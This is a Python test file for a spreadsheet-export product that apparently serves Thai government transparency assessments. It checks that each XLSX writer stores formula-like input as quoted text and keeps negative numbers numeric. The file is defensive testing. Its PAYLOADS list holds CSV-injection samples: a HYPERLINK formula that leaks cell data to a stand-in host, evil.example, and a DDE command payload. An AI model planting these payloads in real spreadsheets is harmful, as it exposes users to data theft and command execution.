"""Every XLSX the product writes keeps text as text: a value starting with =, +, -, @, tab or CR
(OWASP's CSV-injection list) is written as a text cell (with Excel's quote prefix), never a
formula; numbers stay numbers. Each writer's output is read back and searched for formulas."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io

import openpyxl
import pytest

from itadesk.criteria import load_criteria
from itadesk.criteria.sheet import export_criteria_xlsx
from itadesk.oit.checker import CheckRun, UrlCheck
from itadesk.oit.evidence import EvidenceItem, EvidenceRegister, write_evidence_xlsx
from itadesk.oit.report import write_report_xlsx
from itadesk.oit.verdict import predict
from itadesk.plan import MeasuresPlan, PlannedMeasure
from itadesk.progress import DONE, MeasureProgress, ProgressReport, ReportingRound
from itadesk.progress_sheet import write_progress_xlsx
from itadesk.template import write_results_template

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def cells_of(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))   # full mode: a formula reads as data_type "f"
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_no_formula(data: bytes, expected: list[str]) -> None:
    cells = cells_of(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in expected:
        shown = payload.replace("\r", "\n")          # CR is stored as a line break (clean_text)
        assert shown in texts, payload
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))


def test_the_oit_evidence_template(tmp_path):
    register = EvidenceRegister(2568, {"O1": EvidenceItem("O1", ("https://www.example.go.th/a",), PAYLOADS[0])},
                                agency=PAYLOADS[6], website="https://www.example.go.th")
    path = write_evidence_xlsx(register, tmp_path / "t.xlsx", load_criteria(2568))
    assert_no_formula(path.read_bytes(), [PAYLOADS[0], PAYLOADS[6]])


def test_the_progress_sheet_and_its_guide():
    start = dt.date(2024, 10, 1)
    rounds = (ReportingRound("รอบ 6 เดือน", 6, start, dt.date(2025, 3, 31)),)
    plan = MeasuresPlan(2567, 2568, [PlannedMeasure("11", 1, PAYLOADS[1], [PAYLOADS[2]], PAYLOADS[3], "", "")])
    progress = ProgressReport(2568, rounds, {"11": {6: MeasureProgress("11", 6, DONE, done=PAYLOADS[4],
                                                                      output=PAYLOADS[5], outcome="-ลดลงร้อยละ ๒๐")}})
    data = write_progress_xlsx(plan, progress, PAYLOADS[6])
    assert_no_formula(data, [PAYLOADS[1], PAYLOADS[3], PAYLOADS[4], PAYLOADS[5], PAYLOADS[6], "-ลดลงร้อยละ ๒๐"])


@pytest.fixture
def hostile_criteria():
    criteria = load_criteria(2567)
    entries = tuple(dataclasses.replace(e, name=PAYLOADS[i % len(PAYLOADS)]) if i < len(PAYLOADS) else e
                    for i, e in enumerate(criteria.entries))
    return dataclasses.replace(criteria, entries=entries)


def test_the_criteria_export(tmp_path, hostile_criteria):
    path = export_criteria_xlsx(hostile_criteria, tmp_path / "c.xlsx")
    assert_no_formula(path.read_bytes(), PAYLOADS[:4])


def test_the_results_template(tmp_path, hostile_criteria):
    path = write_results_template(hostile_criteria, tmp_path / "r.xlsx")
    assert_no_formula(path.read_bytes(), PAYLOADS[:4])


def test_the_oit_report_and_its_numbers(tmp_path):
    criteria = load_criteria(2567)
    checks = [UrlCheck("O1", "https://www.example.go.th/=1", "ok", 200, detail=PAYLOADS[0], size=-5,
                       keywords_found=[PAYLOADS[3]])]
    run = CheckRun(PAYLOADS[6], "https://www.example.go.th", 2567, 2567, "2024-10-01", "2024-10-01", checks)
    data = write_report_xlsx(run, predict(run, criteria), tmp_path / "r.xlsx").read_bytes()
    assert_no_formula(data, [PAYLOADS[0], PAYLOADS[3], PAYLOADS[6]])
    sizes = [c.value for c in cells_of(data) if c.value == -5]
    assert sizes and all(isinstance(v, int) for v in sizes)    # a negative number stays a number
